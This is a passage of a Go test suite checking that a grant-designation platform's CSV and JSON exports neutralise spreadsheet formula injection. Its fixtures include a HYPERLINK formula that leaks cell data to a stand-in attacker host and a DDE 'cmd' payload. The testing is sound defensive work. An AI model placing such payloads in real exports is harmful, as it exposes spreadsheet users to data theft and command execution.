package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"maps"
	"mime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"designate/engine"
)

// The exports through the real server: the secretariat's spreadsheets of a
// call's dossiers and reviews (CSV and JSON) and the public results, read
// as a spreadsheet user and a script would: the CSV parsed back with
// encoding/csv, the JSON decoded.

// exAppHeader and exReviewHeader are the header rows the handlers document
// (web/export_applications.go, web/export_reviews.go), the review form's
// criteria in its order.
var (
	exAppHeader = []string{"id", "call", "city", "country", "field", "language", "state", "version", "submitted_at", "updated_at",
		"submission_digest", "files", "final_reviews", "mean", "spread", "strong_disagreement", "recommend", "do_not_recommend"}
	exReviewHeader = []string{"application", "city", "country", "field", "evaluator", "kind", "final", "recommendation", "mean",
		"score_commitment", "score_assets", "score_action-plan", "score_cooperation", "score_sustainability", "comment", "updated_at"}
)

// Cities whose names a spreadsheet would run as formulas (the engine takes
// any printable name), and two whose names are not ASCII.
const (
	exHyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	exPlus      = "+1 city"
	exAt        = "@SUM(A1:A2)"
	exMinus     = "-2+3"
	exStEtienne = "Saint-Étienne"
	exLodz      = "Łódź"
)

// Review comments: one that RFC 4180 must quote, and some a spreadsheet
// would run.
const (
	exQuoted = "Strong plan, \"ambitious\" budget;\nsecond line, with a comma"
	exEquals = "=cmd|' /C calc'!A0"
	exTab    = "\tTabbed: =1+1"
	exCR     = "\r=2+2"
	exAtSign = "@first thoughts"
	exPlusC  = "+44 20 7946 0000, call me"
	exMinusC = "-1 for the budget"
)

// exEnv is the server with the exports' call.
type exEnv struct {
	t           *testing.T
	tm          *TestMain
	call        string
	secretariat string
	commissions map[string]string
	cities      map[string]*city
	experts     map[string]*rvAccount
}

// exStart starts the server and creates the call with the network's review
// form (weights 2, 2, 3, 1, 2 on 1–5).
func exStart(t *testing.T, callID string) *exEnv {
	t.Helper()
	tm := MustRunMain(t, false)
	e := &exEnv{t: t, tm: tm, call: callID, commissions: map[string]string{}, cities: map[string]*city{}, experts: map[string]*rvAccount{}}
	e.secretariat = tm.MustUser("secretariat@example.org", engine.RoleSecretariat, "", "")
	body := callBody(callID)
	body["review"] = rvReviewForm()
	tm.MustDo(201, "POST", "/api/v1/calls", e.secretariat, body, nil)
	return e
}

// city makes the applicant account of a city under an ASCII address (its
// name may be anything) and starts its dossier, completed.
func (e *exEnv) city(name, country, field, slug string) *city {
	e.t.Helper()
	c := &city{Email: slug + "@" + strings.ToLower(country) + ".example.org", Name: name, Country: country, Field: field}
	c.Token = e.tm.MustUser(c.Email, engine.RoleApplicant, country, name)
	e.tm.startDossier(c, e.call)
	body := completeDraft(c.Dossier.Version, name)
	person := func(who string) map[string]string {
		return map[string]string{"name": who + " of " + name, "email": who + "@" + slug + ".example.org", "phone": "+33 1 45 68 10 00"}
	}
	body["contacts"] = map[string]any{"mayor": person("mayor"), "representative": person("deputy"), "main": person("culture")}
	e.tm.MustDo(200, "PUT", "/api/v1/applications/"+c.Dossier.ID, c.Token, body, &c.Dossier)
	e.cities[name] = c
	return c
}

// submitEndorse submits the city's dossier and has its commission endorse it.
func (e *exEnv) submitEndorse(c *city) {
	e.t.Helper()
	e.tm.move(c.Token, &c.Dossier, "submit", "", "submitted")
	if e.commissions[c.Country] == "" {
		e.commissions[c.Country] = e.tm.MustUser("commission@"+strings.ToLower(c.Country)+".example.org", engine.RoleCommission, c.Country, "")
	}
	e.tm.move(e.commissions[c.Country], &c.Dossier, "endorse", "", "endorsed")
}

// expert makes an expert of the country and signs it in.
func (e *exEnv) expert(country string) *rvAccount {
	e.t.Helper()
	email := "expert@" + strings.ToLower(country) + ".example.org"
	a := &rvAccount{Email: email, Token: e.tm.MustUser(email, engine.RoleEvaluator, country, "")}
	var me struct{ ID string }
	e.tm.MustDo(200, "GET", "/api/v1/me", a.Token, nil, &me)
	a.ID = me.ID
	e.experts[country] = a
	return a
}

// review saves the expert's review of the city's dossier.
func (e *exEnv) review(name string, ev *rvAccount, body map[string]any) {
	e.t.Helper()
	e.tm.MustDo(200, "PUT", "/api/v1/applications/"+e.cities[name].Dossier.ID+"/review", ev.Token, body, nil)
}

// exFinal is a final review with its comment.
func exFinal(scores map[string]int, recommendation, comment string) map[string]any {
	return map[string]any{"scores": scores, "recommendation": recommendation, "final": true, "comment": comment}
}

// exCSV checks that r is a UTF-8 CSV download named filename (CRLF line
// ends, no byte-order mark, not cached) and parses it back.
func exCSV(t *testing.T, r *Response, filename string) [][]string {
	t.Helper()
	if r.Status != 200 {
		t.Fatalf("status %d; body %s", r.Status, r.Body)
	}
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
	}
	exDisposition(t, r, "attachment", filename)
	if cc := r.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q, want no-store", cc)
	}
	if bytes.HasPrefix(r.Body, []byte("\xef\xbb\xbf")) {
		t.Errorf("the CSV starts with a byte-order mark")
	}
	// Every line ends with CRLF, including the line breaks inside a quoted
	// cell (encoding/csv reads them back as LF).
	if !bytes.HasSuffix(r.Body, []byte("\r\n")) || bytes.Count(r.Body, []byte("\n")) != bytes.Count(r.Body, []byte("\r\n")) {
		t.Errorf("the CSV has line ends other than CRLF: %q", r.Body)
	}
	rd := csv.NewReader(bytes.NewReader(r.Body))
	records, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse back: %v\n%s", err, r.Body)
	}
	if len(records) == 0 {
		t.Fatalf("the CSV has no header row")
	}
	return records
}

// exDisposition checks the Content-Disposition's type and file name.
func exDisposition(t *testing.T, r *Response, kind, filename string) {
	t.Helper()
	d, params, err := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
	if err != nil || d != kind || params["filename"] != filename {
		t.Errorf("Content-Disposition %q, want %s with filename %q", r.Header.Get("Content-Disposition"), kind, filename)
	}
}

// exRows are the records after the header, by the first column.
func exRows(t *testing.T, records [][]string, header []string) map[string][][]string {
	t.Helper()
	if !slices.Equal(records[0], header) {
		t.Fatalf("header row\n%q\nwant\n%q", records[0], header)
	}
	out := map[string][][]string{}
	for _, rec := range records[1:] {
		if len(rec) != len(header) {
			t.Fatalf("row %q has %d cells, the header %d", rec, len(rec), len(header))
		}
		out[rec[0]] = append(out[rec[0]], rec)
	}
	return out
}

// exDefused is the cell a spreadsheet shows as the text s: an apostrophe
// before what would start a formula. encoding/csv with CRLF line ends
// keeps no lone carriage return, so "\r=2+2" arrives as "'=2+2".
func exDefused(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		s = "'" + s
	}
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "")
}

// exJSONKeys are the keys of a JSON object.
func exJSONKeys(t *testing.T, raw json.RawMessage) []string {
	t.Helper()
	var m map[string]json.RawMessage
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatalf("%s is not a JSON object: %v", raw, err)
	}
	return slices.Sorted(maps.Keys(m))
}

// exCanonical is a JSON value re-encoded with sorted keys, its "reviews"
// ordered by e-mail, for comparing two answers.
func exCanonical(t *testing.T, raw []byte) string {
	t.Helper()
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatalf("%s: %v", raw, err)
	}
	if m, ok := v.(map[string]any); ok {
		if rs, ok := m["reviews"].([]any); ok {
			sort.Slice(rs, func(i, j int) bool {
				return rs[i].(map[string]any)["email"].(string) < rs[j].(map[string]any)["email"].(string)
			})
		}
	}
	out, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// exSetup brings the exports' call to evaluation with its reviews:
//
//	Saint-Étienne (FR, Design): CN final 4.3 recommend (a comment RFC 4180
//	  must quote), KE final 2.0 do_not_recommend (a formula), JP a draft
//	  (one score, a comment starting with @): mean 3.15, spread 2.3,
//	  strong disagreement (over 4/3);
//	Łódź (PL, Film): CN 4.0, JP 4.2, KE 3.7, all recommend (comments
//	  starting with +, a tab, -): mean 3.97, spread 0.5;
//	=HYPERLINK(…) (BR, Music), @SUM(A1:A2) (AR, Gastronomy), -2+3 (CL,
//	  Design): CN 3.0 recommend;
//	+1 city (CO, Film): CN 3.0, JP 3.0 (a comment starting with CR).
//
// Rouen (FR, Music) submitted then retracted before the close, and Nantes
// (FR, Film) never submitted; both lapse at the close.
func exSetup(t *testing.T, callID string) *exEnv {
	t.Helper()
	e := exStart(t, callID)
	tm := e.tm
	for _, c := range []struct{ name, country, field, slug string }{
		{exStEtienne, "FR", "Design", "saint-etienne"},
		{exLodz, "PL", "Film", "lodz"},
		{exHyperlink, "BR", "Music", "hyperlink"},
		{exPlus, "CO", "Film", "plus-one"},
		{exAt, "AR", "Gastronomy", "at-sum"},
		{exMinus, "CL", "Design", "minus-two"},
	} {
		e.submitEndorse(e.city(c.name, c.country, c.field, c.slug))
	}
	rouen := e.city("Rouen", "FR", "Music", "rouen")
	tm.move(rouen.Token, &rouen.Dossier, "submit", "", "submitted")
	tm.move(rouen.Token, &rouen.Dossier, "retract", "", "draft")
	e.city("Nantes", "FR", "Film", "nantes")
	return e
}

// exEvaluate closes the call, takes the endorsed dossiers to evaluation and
// writes the reviews exSetup describes.
func (e *exEnv) exEvaluate() {
	t, tm := e.t, e.tm
	t.Helper()
	tm.Advance(callClose.Add(time.Minute))
	e.secretariat = tm.MustLogin("secretariat@example.org", testPassword)
	for _, name := range []string{exStEtienne, exLodz, exHyperlink, exPlus, exAt, exMinus} {
		c := e.cities[name]
		tm.move(e.secretariat, &c.Dossier, "accept", "", "eligible")
		tm.move(e.secretariat, &c.Dossier, "start_evaluation", "", "under_evaluation")
	}
	cn, jp, ke := e.expert("CN"), e.expert("JP"), e.expert("KE")
	assign := func(name string, evs ...*rvAccount) {
		for _, ev := range evs {
			tm.MustDo(201, "POST", "/api/v1/applications/"+e.cities[name].Dossier.ID+"/assignments", e.secretariat,
				map[string]string{"evaluator": ev.ID, "kind": "expert"}, nil)
		}
	}
	assign(exStEtienne, cn, jp, ke)
	assign(exLodz, cn, jp, ke)
	assign(exHyperlink, cn)
	assign(exAt, cn)
	assign(exMinus, cn)
	assign(exPlus, cn, jp)
	e.review(exStEtienne, cn, exFinal(rvScores(5, 4, 4, 3, 5), "recommend", exQuoted))        // 43 → 4.3
	e.review(exStEtienne, ke, exFinal(rvScores(2, 2, 2, 2, 2), "do_not_recommend", exEquals)) // 2.0
	e.review(exStEtienne, jp, map[string]any{"scores": map[string]int{"commitment": 3}, "comment": exAtSign})
	e.review(exLodz, cn, exFinal(rvScores(4, 4, 4, 4, 4), "recommend", exPlusC))  // 4.0
	e.review(exLodz, jp, exFinal(rvScores(4, 5, 4, 4, 4), "recommend", exTab))    // 42 → 4.2
	e.review(exLodz, ke, exFinal(rvScores(4, 4, 3, 4, 4), "recommend", exMinusC)) // 37 → 3.7
	for _, name := range []string{exHyperlink, exAt, exMinus, exPlus} {
		e.review(name, cn, exFinal(rvScores(3, 3, 3, 3, 3), "recommend", "Sound."))
	}
	e.review(exPlus, jp, exFinal(rvScores(3, 3, 3, 3, 3), "recommend", exCR))
}

// The applications export, CSV and JSON, once the reviews are in: the
// documented header, a row per dossier submitted at least once (the
// retracted one included, as the secretariat's list has it; the one never
// submitted nowhere) in id order, the UTF-8 names intact, the names that
// would be formulas defused in the CSV and exact in the JSON, the numbers
// of each dossier's assessment; the JSON's dossiers are the dossiers as the
// secretariat reads them, with their assessments.
func TestExport_Applications_CSVAndJSON(t *testing.T) {
	e := exSetup(t, "uccn-exports")
	e.exEvaluate()
	tm := e.tm
	path := "/api/v1/calls/uccn-exports/export/applications"

	records := exCSV(t, tm.MustSend("GET", path+"?format=csv", e.secretariat, nil), "uccn-exports-applications.csv")
	rows := exRows(t, records, exAppHeader)
	listed := tm.listAll("call=uccn-exports&limit=100", e.secretariat)
	var want []string
	for _, d := range listed {
		want = append(want, d.ID)
	}
	slices.Sort(want)
	var got []string
	for _, rec := range records[1:] {
		got = append(got, rec[0])
	}
	if !slices.Equal(got, want) {
		t.Fatalf("CSV rows for %v, want the %d dossiers the secretariat lists, in id order: %v", got, len(want), want)
	}
	if len(got) != 7 {
		t.Fatalf("%d dossiers exported, want the six evaluated and Rouen's", len(got))
	}
	if rows[e.cities["Nantes"].Dossier.ID] != nil || bytes.Contains(records2bytes(records), []byte("Nantes")) {
		t.Errorf("the never-submitted dossier of Nantes is exported")
	}

	type line struct {
		city, country, field, state, final, mean, spread, disagree, rec, notRec string
	}
	wantLines := map[string]line{
		exStEtienne: {exStEtienne, "FR", "Design", "under_evaluation", "2", "3.15", "2.30", "true", "1", "1"},
		exLodz:      {exLodz, "PL", "Film", "under_evaluation", "3", "3.97", "0.50", "false", "3", "0"},
		exHyperlink: {"'" + exHyperlink, "BR", "Music", "under_evaluation", "1", "3.00", "0.00", "false", "1", "0"},
		exPlus:      {"'" + exPlus, "CO", "Film", "under_evaluation", "2", "3.00", "0.00", "false", "2", "0"},
		exAt:        {"'" + exAt, "AR", "Gastronomy", "under_evaluation", "1", "3.00", "0.00", "false", "1", "0"},
		exMinus:     {"'" + exMinus, "CL", "Design", "under_evaluation", "1", "3.00", "0.00", "false", "1", "0"},
		"Rouen":     {"Rouen", "FR", "Music", "lapsed", "0", "", "0.00", "false", "0", "0"},
	}
	for name, w := range wantLines {
		c := e.cities[name]
		d := tm.dossier(c.Dossier.ID, e.secretariat)
		rs := rows[c.Dossier.ID]
		if len(rs) != 1 {
			t.Errorf("%s: %d rows", name, len(rs))
			continue
		}
		r := rs[0]
		g := line{r[2], r[3], r[4], r[6], r[12], r[13], r[14], r[15], r[16], r[17]}
		if g != w {
			t.Errorf("%s: row %q\ngot  %+v\nwant %+v", name, r, g, w)
		}
		if r[1] != "uccn-exports" || r[5] != "en" || r[7] != strconv.Itoa(d.Version) || r[11] != "0" {
			t.Errorf("%s: call, language, version or files in %q (the dossier is at version %d)", name, r, d.Version)
		}
		submitted, err1 := time.Parse(time.RFC3339, r[8])
		updated, err2 := time.Parse(time.RFC3339, r[9])
		if err1 != nil || err2 != nil || !strings.HasSuffix(r[8], "Z") || submitted.After(updated) {
			t.Errorf("%s: submitted_at %q, updated_at %q, want RFC 3339 UTC instants, in order", name, r[8], r[9])
		}
		if digest := r[10]; (name == "Rouen") != (digest == "") || (digest != "" && len(digest) != 64) {
			t.Errorf("%s: submission_digest %q", name, digest)
		}
	}
	// The UTF-8 names, byte for byte.
	for _, name := range []string{exStEtienne, exLodz} {
		if !bytes.Contains(records2bytes(records), []byte(","+name+",")) {
			t.Errorf("the CSV does not hold %q as UTF-8", name)
		}
	}

	// JSON, the default: the call, and each dossier as the secretariat
	// reads it, with its assessment as the secretariat reads it.
	r := tm.MustSend("GET", path, e.secretariat, nil)
	if r.Status != 200 || r.Header.Get("Content-Type") != "application/json; charset=utf-8" {
		t.Fatalf("JSON export: %d %q", r.Status, r.Header.Get("Content-Type"))
	}
	if explicit := tm.Raw(path+"?format=json", e.secretariat); !bytes.Equal(explicit, r.Body) {
		t.Errorf("?format=json differs from the default")
	}
	if keys := exJSONKeys(t, r.Body); !slices.Equal(keys, []string{"applications", "call"}) {
		t.Errorf("export keys %v, want applications and call", keys)
	}
	var ex struct {
		Call         json.RawMessage   `json:"call"`
		Applications []json.RawMessage `json:"applications"`
	}
	if err := json.Unmarshal(r.Body, &ex); err != nil {
		t.Fatal(err)
	}
	if exCanonical(t, ex.Call) != exCanonical(t, tm.Raw("/api/v1/calls/uccn-exports", e.secretariat)) {
		t.Errorf("the export's call is not the call:\n%s", ex.Call)
	}
	var jsonIDs []string
	for _, raw := range ex.Applications {
		var app map[string]json.RawMessage
		_ = json.Unmarshal(raw, &app)
		var id string
		_ = json.Unmarshal(app["id"], &id)
		jsonIDs = append(jsonIDs, id)
		assessment := app["assessment"]
		delete(app, "assessment")
		dossier, _ := json.Marshal(app)
		if exCanonical(t, dossier) != exCanonical(t, tm.Raw("/api/v1/applications/"+id, e.secretariat)) {
			t.Errorf("dossier %s in the export differs from the dossier:\n%s\n%s", id, dossier, tm.Raw("/api/v1/applications/"+id, e.secretariat))
		}
		if exCanonical(t, assessment) != exCanonical(t, tm.Raw("/api/v1/applications/"+id+"/assessment", e.secretariat)) {
			t.Errorf("dossier %s: the exported assessment differs from the assessment:\n%s", id, assessment)
		}
	}
	if !slices.Equal(jsonIDs, want) {
		t.Errorf("JSON dossiers %v, want %v", jsonIDs, want)
	}
	for _, name := range []string{exHyperlink, exStEtienne, exLodz} {
		var s struct {
			Applications []struct{ City string } `json:"applications"`
		}
		_ = json.Unmarshal(r.Body, &s)
		if !slices.ContainsFunc(s.Applications, func(a struct{ City string }) bool { return a.City == name }) {
			t.Errorf("the JSON has no city named exactly %q", name)
		}
	}
}

// records2bytes is the records written back as they came, to search them.
func records2bytes(records [][]string) []byte {
	var b bytes.Buffer
	for _, r := range records {
		b.WriteString(strings.Join(r, ",") + "\n")
	}
	return b.Bytes()
}

// The reviews export: the documented header with a column per criterion in
// the form's order, one row per review (drafts included, marked), in the
// dossiers' id order then the evaluators' e-mails; the comment RFC 4180
// quotes comes back whole; each comment and name a spreadsheet would run
// starts with an apostrophe; the JSON has the call's criteria and every
// review with its dossier's city, country and field.
func TestExport_Reviews_CSVAndJSON(t *testing.T) {
	e := exSetup(t, "uccn-exports")
	e.exEvaluate()
	tm := e.tm
	path := "/api/v1/calls/uccn-exports/export/reviews"
	r := tm.MustSend("GET", path+"?format=csv", e.secretariat, nil)
	records := exCSV(t, r, "uccn-exports-reviews.csv")
	exRows(t, records, exReviewHeader)
	cn, jp, ke := e.experts["CN"], e.experts["JP"], e.experts["KE"]

	type key struct{ app, evaluator string }
	type want struct {
		city, final, rec, mean, scores, comment string
	}
	id := func(name string) string { return e.cities[name].Dossier.ID }
	wants := map[key]want{
		{id(exStEtienne), cn.Email}: {exStEtienne, "true", "recommend", "4.30", "5 4 4 3 5", exQuoted},
		{id(exStEtienne), ke.Email}: {exStEtienne, "true", "do_not_recommend", "2.00", "2 2 2 2 2", exEquals},
		{id(exStEtienne), jp.Email}: {exStEtienne, "false", "", "", "3    ", exAtSign},
		{id(exLodz), cn.Email}:      {exLodz, "true", "recommend", "4.00", "4 4 4 4 4", exPlusC},
		{id(exLodz), jp.Email}:      {exLodz, "true", "recommend", "4.20", "4 5 4 4 4", exTab},
		{id(exLodz), ke.Email}:      {exLodz, "true", "recommend", "3.70", "4 4 3 4 4", exMinusC},
		{id(exHyperlink), cn.Email}: {exHyperlink, "true", "recommend", "3.00", "3 3 3 3 3", "Sound."},
		{id(exAt), cn.Email}:        {exAt, "true", "recommend", "3.00", "3 3 3 3 3", "Sound."},
		{id(exMinus), cn.Email}:     {exMinus, "true", "recommend", "3.00", "3 3 3 3 3", "Sound."},
		{id(exPlus), cn.Email}:      {exPlus, "true", "recommend", "3.00", "3 3 3 3 3", "Sound."},
		{id(exPlus), jp.Email}:      {exPlus, "true", "recommend", "3.00", "3 3 3 3 3", exCR},
	}
	if n := len(records) - 1; n != len(wants) {
		t.Errorf("%d review rows, want %d", n, len(wants))
	}
	var order []key
	for _, rec := range records[1:] {
		k := key{rec[0], rec[4]}
		order = append(order, k)
		w, ok := wants[k]
		if !ok {
			t.Errorf("unexpected row %q", rec)
			continue
		}
		c := e.cities[w.city]
		g := want{rec[1], rec[6], rec[7], rec[8], strings.Join(rec[9:14], " "), rec[14]}
		wantRow := want{exDefused(w.city), w.final, w.rec, w.mean, w.scores, exDefused(w.comment)}
		if g != wantRow {
			t.Errorf("row %q\ngot  %+v\nwant %+v", rec, g, wantRow)
		}
		if rec[2] != c.Country || rec[3] != c.Field || rec[5] != "expert" {
			t.Errorf("row %q: want %s, %s, expert", rec, c.Country, c.Field)
		}
		if at, err := time.Parse(time.RFC3339, rec[15]); err != nil || !at.Equal(tm.Clock.Now()) {
			t.Errorf("row %q: updated_at %q, want %s", rec, rec[15], tm.Clock.Now().UTC().Format(time.RFC3339))
		}
	}
	if !slices.IsSortedFunc(order, func(a, b key) int {
		if c := strings.Compare(a.app, b.app); c != 0 {
			return c
		}
		return strings.Compare(a.evaluator, b.evaluator)
	}) {
		t.Errorf("rows not in dossier then evaluator order: %v", order)
	}
	// RFC 4180 on the wire: the comment quoted, its quotes doubled, its
	// line break inside the quotes.
	if wire := "\"Strong plan, \"\"ambitious\"\" budget;\r\nsecond line, with a comma\""; !bytes.Contains(r.Body, []byte(wire)) {
		t.Errorf("the CSV does not quote the comment as RFC 4180 does (%q):\n%s", wire, r.Body)
	}
	// Every cell that would start a formula starts with an apostrophe; no
	// cell of the file starts a formula.
	for _, rec := range records[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s of %q starts a formula: %q", exReviewHeader[i], rec, cell)
			}
		}
	}

	// JSON.
	r = tm.MustSend("GET", path, e.secretariat, nil)
	if r.Status != 200 || r.Header.Get("Content-Type") != "application/json; charset=utf-8" {
		t.Fatalf("JSON export: %d %q", r.Status, r.Header.Get("Content-Type"))
	}
	if keys := exJSONKeys(t, r.Body); !slices.Equal(keys, []string{"call", "criteria", "items"}) {
		t.Errorf("keys %v, want call, criteria and items", keys)
	}
	var ex struct {
		Call     string             `json:"call"`
		Criteria []engine.Criterion `json:"criteria"`
		Items    []json.RawMessage  `json:"items"`
	}
	if err := json.Unmarshal(r.Body, &ex); err != nil {
		t.Fatal(err)
	}
	var critIDs []string
	for _, c := range ex.Criteria {
		critIDs = append(critIDs, c.ID)
	}
	if ex.Call != "uccn-exports" || !slices.Equal(critIDs, []string{"commitment", "assets", "action-plan", "cooperation", "sustainability"}) ||
		ex.Criteria[2].Weight != 3 || ex.Criteria[2].Title.EN != "Action plan" {
		t.Errorf("call %q, criteria %+v", ex.Call, ex.Criteria)
	}
	if len(ex.Items) != len(wants) {
		t.Fatalf("%d items, want %d", len(ex.Items), len(wants))
	}
	evaluators := map[string]string{cn.Email: cn.ID, jp.Email: jp.ID, ke.Email: ke.ID}
	for i, raw := range ex.Items {
		var it struct {
			rvReview
			City    string `json:"city"`
			Country string `json:"country"`
			Field   string `json:"field"`
		}
		if err := json.Unmarshal(raw, &it); err != nil {
			t.Fatal(err)
		}
		keys := []string{"application", "city", "comment", "country", "email", "evaluator", "field", "final", "kind", "recommendation",
			"scores", "updated_at", "version"}
		if it.Mean != nil {
			keys = append(keys, "mean")
			slices.Sort(keys)
		}
		if got := exJSONKeys(t, raw); !slices.Equal(got, keys) {
			t.Errorf("item %d keys %v, want %v", i, got, keys)
		}
		k := key{it.Application, it.Email}
		w, ok := wants[k]
		if !ok || order[i] != k {
			t.Errorf("item %d is %v; the CSV's row %d is %v", i, k, i, order[i])
			continue
		}
		c := e.cities[w.city]
		if it.City != w.city || it.Country != c.Country || it.Field != c.Field || it.Comment != w.comment ||
			it.Evaluator != evaluators[it.Email] || it.Kind != "expert" || (it.Recommendation != w.rec) || (w.final == "true") != it.Final {
			t.Errorf("item %d: %s, want %+v", i, raw, w)
		}
	}
}

// What a dossier that never left the draft state is: absent from every
// export, before and after it lapses; the export is the secretariat's,
// refused to everyone else; an unknown format is refused per field, an
// unknown call is 404.
func TestExport_DraftsFormatsAndRefusals(t *testing.T) {
	e := exSetup(t, "uccn-exports")
	tm := e.tm
	nantes, rouen := e.cities["Nantes"], e.cities["Rouen"]
	paths := []string{"/api/v1/calls/uccn-exports/export/applications", "/api/v1/calls/uccn-exports/export/reviews"}
	check := func(when string) {
		t.Helper()
		for _, p := range paths {
			for _, f := range []string{"", "?format=json", "?format=csv"} {
				r := tm.MustSend("GET", p+f, e.secretariat, nil)
				if r.Status != 200 {
					t.Fatalf("%s: GET %s%s: %d %s", when, p, f, r.Status, r.Body)
				}
				if bytes.Contains(r.Body, []byte(nantes.Dossier.ID)) || bytes.Contains(r.Body, []byte("Nantes")) {
					t.Errorf("%s: GET %s%s names the draft of Nantes", when, p, f)
				}
			}
		}
		// Exactly the secretariat's list.
		var ex struct {
			Applications []struct{ ID, State string } `json:"applications"`
		}
		tm.MustDo(200, "GET", paths[0], e.secretariat, nil, &ex)
		var got []string
		for _, a := range ex.Applications {
			got = append(got, a.ID)
		}
		if err := sameIDs(got, ids(tm.listAll("call=uccn-exports", e.secretariat))); err != nil || len(got) != 7 {
			t.Errorf("%s: the export is not the secretariat's list: %v", when, err)
		}
	}
	// Before the close Nantes is a draft; Rouen, retracted, too, and listed
	// by the secretariat as a dossier once submitted.
	if d := tm.dossier(rouen.Dossier.ID, e.secretariat); d.State != "draft" {
		t.Fatalf("Rouen is %s", d.State)
	}
	check("before the close")
	e.exEvaluate()
	nantes.Token = tm.MustLogin(nantes.Email, testPassword)
	if d := tm.dossier(nantes.Dossier.ID, nantes.Token); d.State != "lapsed" {
		t.Fatalf("Nantes is %s after the close, want lapsed", d.State)
	}
	check("after the close")

	lodz := tm.MustLogin(e.cities[exLodz].Email, testPassword)
	commissionPL := tm.MustLogin("commission@pl.example.org", testPassword)
	for _, p := range paths {
		for _, f := range []string{"xml", "CSV", "csv,json", "%20csv"} {
			refused := tm.MustFail(400, "invalid", "GET", p+"?format="+f, e.secretariat, nil)
			if refused.Error.Fields["format"] == "" || len(refused.Error.Fields) != 1 {
				t.Errorf("GET %s?format=%s: fields %v, want one for format", p, f, refused.Error.Fields)
			}
		}
		tm.MustFail(401, "unauthorized", "GET", p, "", nil)
		for _, tok := range []string{lodz, commissionPL, e.experts["CN"].Token} {
			tm.MustFail(403, "forbidden", "GET", p+"?format=csv", tok, nil)
		}
		tm.MustFail(404, "not_found", "GET", strings.Replace(p, "uccn-exports", "no-such-call", 1), e.secretariat, nil)
		tm.MustFail(404, "not_found", "GET", strings.Replace(p, "uccn-exports", "no-such-call", 1)+"?format=csv", e.secretariat, nil)
	}
	// An admin exports too.
	admin := tm.MustUser("admin@example.org", engine.RoleAdmin, "", "")
	exCSV(t, tm.MustSend("GET", paths[0]+"?format=csv", admin, nil), "uccn-exports-applications.csv")
}

// The public results: 404 before the announcement whatever the format (the
// format itself is checked first); after it, to anyone, JSON and CSV with
// exactly the designated cities, by field, country and city, the UTF-8
// names intact and the formula names defused in the CSV.
func TestExport_PublicResults(t *testing.T) {
	e := exSetup(t, "uccn-exports")
	e.exEvaluate()
	tm := e.tm
	path := "/api/v1/calls/uccn-exports/results"
	for _, f := range []string{"", "?format=json", "?format=csv"} {
		tm.MustFail(404, "not_found", "GET", path+f, "", nil)
		tm.MustFail(404, "not_found", "GET", path+f, e.secretariat, nil)
	}
	tm.MustFail(400, "invalid", "GET", path+"?format=xml", "", nil)

	recommended := []string{exStEtienne, exLodz, exHyperlink, exAt}
	for _, name := range []string{exStEtienne, exLodz, exHyperlink, exAt, exPlus, exMinus} {
		c := e.cities[name]
		if slices.Contains(recommended, name) {
			tm.move(e.secretariat, &c.Dossier, "recommend", "", "recommended")
		} else {
			tm.move(e.secretariat, &c.Dossier, "not_recommend", "", "not_recommended")
		}
	}
	tm.Advance(callAnnounce.Add(-time.Minute))
	tm.MustFail(404, "not_found", "GET", path+"?format=csv", "", nil)
	tm.Advance(callAnnounce)
	e.secretariat = tm.MustLogin("secretariat@example.org", testPassword)
	for _, name := range []string{exStEtienne, exLodz, exHyperlink, exAt, exPlus, exMinus} {
		want := "not_designated"
		if slices.Contains(recommended, name) {
			want = "designated"
		}
		if d := tm.dossier(e.cities[name].Dossier.ID, e.secretariat); d.State != want {
			t.Errorf("%s is %s at the announcement, want %s", name, d.State, want)
		}
	}

	type item struct{ City, Country, Field string }
	wantItems := []item{
		{exStEtienne, "FR", "Design"}, {exLodz, "PL", "Film"}, {exAt, "AR", "Gastronomy"}, {exHyperlink, "BR", "Music"},
	}
	r := tm.MustSend("GET", path, "", nil)
	if r.Status != 200 || r.Header.Get("Content-Type") != "application/json; charset=utf-8" {
		t.Fatalf("results: %d %q %s", r.Status, r.Header.Get("Content-Type"), r.Body)
	}
	if keys := exJSONKeys(t, r.Body); !slices.Equal(keys, []string{"call", "items"}) {
		t.Errorf("results keys %v", keys)
	}
	var res struct {
		Call  string `json:"call"`
		Items []item `json:"items"`
	}
	if err := json.Unmarshal(r.Body, &res); err != nil || res.Call != "uccn-exports" || !slices.Equal(res.Items, wantItems) {
		t.Errorf("results %s, want %+v", r.Body, wantItems)
	}
	if j := tm.Raw(path+"?format=json", ""); !bytes.Equal(j, r.Body) {
		t.Errorf("?format=json differs from the default")
	}

	records := exCSV(t, tm.MustSend("GET", path+"?format=csv", "", nil), "uccn-exports-results.csv")
	if !slices.Equal(records[0], []string{"call", "city", "country", "field"}) {
		t.Errorf("results header %q", records[0])
	}
	var got []item
	for _, rec := range records[1:] {
		if len(rec) != 4 || rec[0] != "uccn-exports" {
			t.Errorf("results row %q", rec)
			continue
		}
		got = append(got, item{rec[1], rec[2], rec[3]})
	}
	var wantCSV []item
	for _, it := range wantItems {
		wantCSV = append(wantCSV, item{exDefused(it.City), it.Country, it.Field})
	}
	if !slices.Equal(got, wantCSV) {
		t.Errorf("results CSV %+v, want %+v", got, wantCSV)
	}
	if wantCSV[2].City != "'"+exAt || wantCSV[3].City != "'"+exHyperlink {
		t.Fatalf("the test's own expectation does not defuse the formula names: %+v", wantCSV)
	}
	// The secretariat's export after the announcement: the decided states.
	rows := exRows(t, exCSV(t, tm.MustSend("GET", "/api/v1/calls/uccn-exports/export/applications?format=csv", e.secretariat, nil),
		"uccn-exports-applications.csv"), exAppHeader)
	for _, name := range []string{exStEtienne, exPlus} {
		want := map[string]string{exStEtienne: "designated", exPlus: "not_designated"}[name]
